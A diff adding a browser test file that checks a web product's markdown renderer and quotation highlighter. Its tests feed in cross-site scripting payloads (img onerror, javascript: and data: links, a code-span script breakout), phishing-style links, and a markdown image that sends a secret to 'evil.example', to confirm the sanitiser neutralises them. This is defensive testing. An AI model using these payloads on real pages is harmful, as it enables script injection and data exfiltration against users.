@@ -1,0 +1,101 @@
+"""What the pages' own scripts make of an answer: the modules themselves, in a browser."""
+
+import pytest
+from playwright.sync_api import Page
+
+# Draws a growing text letter by letter, as a stream would, and tells what stands there.
+STREAMED = """
+async (text) => {
+  const { createRenderer } = await import("/static/js/core/markdown.js");
+  const target = document.body.appendChild(document.createElement("div"));
+  const render = createRenderer(target);
+  for (let end = 1; end <= text.length; end += 1) render(text.slice(0, end));
+  render(text, { final: true });
+  return target.innerHTML;
+}
+"""
+FINISHED = """
+async (html) => {
+  const { drawAnswer } = await import("/static/js/core/markdown.js");
+  const target = document.body.appendChild(document.createElement("div"));
+  drawAnswer(target, { html });
+  return target.innerHTML;
+}
+"""
+HIGHLIGHTED = """
+async ([text, parts]) => {
+  const { highlighted } = await import("/static/js/pages/playground_parts.js");
+  const target = document.createElement("p");
+  target.append(...highlighted(text, parts));
+  return [target.textContent, [...target.querySelectorAll("mark")].map((mark) => mark.textContent)];
+}
+"""
+
+
+@pytest.fixture(scope="module")
+def window(browser, product_url):
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(f"{product_url}/accounts/login/")
+    page.evaluate("() => { window.alert = () => { window.acted = 1; }; }")
+    yield page
+    context.close()
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("See [our prices](https://evil.example/x).", "</a> (evil.example)."),
+        ("[bank.example](https://evil.example)", "</a> (evil.example)"),
+        ("[bank.example](https://bank.example@evil.example/)", "</a> (evil.example)"),
+    ],
+)
+def test_a_streamed_link_tells_its_host(window: Page, text, shown):
+    assert shown in window.evaluate(STREAMED, text)
+
+
+@pytest.mark.parametrize(
+    "text", ["[shop.example/a](https://shop.example/a)", "<https://shop.example/a>"]
+)
+def test_a_streamed_host_is_not_said_twice(window: Page, text):
+    assert "(" not in window.evaluate(STREAMED, text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<img src=x onerror=alert(1)>",
+        "![x](https://evil.example/?q=secret)",
+        "[x](javascript:alert(1))",
+        "[x](data:text/html,<script>alert(1)</script>)",
+        "`</code><script>alert(1)</script>`",
+        "```\n</pre><img src=x onerror=alert(1)>\n```",
+    ],
+)
+def test_streamed_text_cannot_act(window: Page, text):
+    html = window.evaluate(STREAMED, text)
+    assert "<img" not in html and "<script" not in html
+    assert 'href="javascript' not in html and 'href="data' not in html
+    assert window.evaluate("window.acted") is None
+
+
+def test_the_pages_keep_the_marks_of_the_server_and_nothing_beside(window: Page):
+    mark = '<sup class="unsupported" onclick="alert(1)" style="x" title="Buy!">?</sup>'
+    html = window.evaluate(FINISHED, f"<p>Blue.{mark} <img src=x onerror=alert(1)></p><sup>2</sup>")
+    assert html.count('title="No source says this"') == 1 and 'role="img"' in html
+    assert not any(word in html for word in ("onclick", "style", "Buy!", "<img"))
+    assert "<sup>2</sup>" in html
+
+
+@pytest.mark.parametrize(
+    ("text", "spans", "marked"),
+    [
+        ("One. Two. Three.", [(5, 9)], ["Two."]),
+        ("🥐🥐 One. 🐕 Two.", [(3, 7), (8, 14)], ["One.", "🐕 Two."]),
+        ("One. Two.", [(0, 9), (5, 9)], ["One. Two."]),
+        ("One. Two.", [(5, 9), (0, 6)], ["One. T", "wo."]),
+    ],
+)
+def test_quotations_are_marked_to_the_letter(window: Page, text, spans, marked):
+    parts = [{"start": start, "end": end} for start, end in spans]
+    assert window.evaluate(HIGHLIGHTED, [text, parts]) == [text, marked]
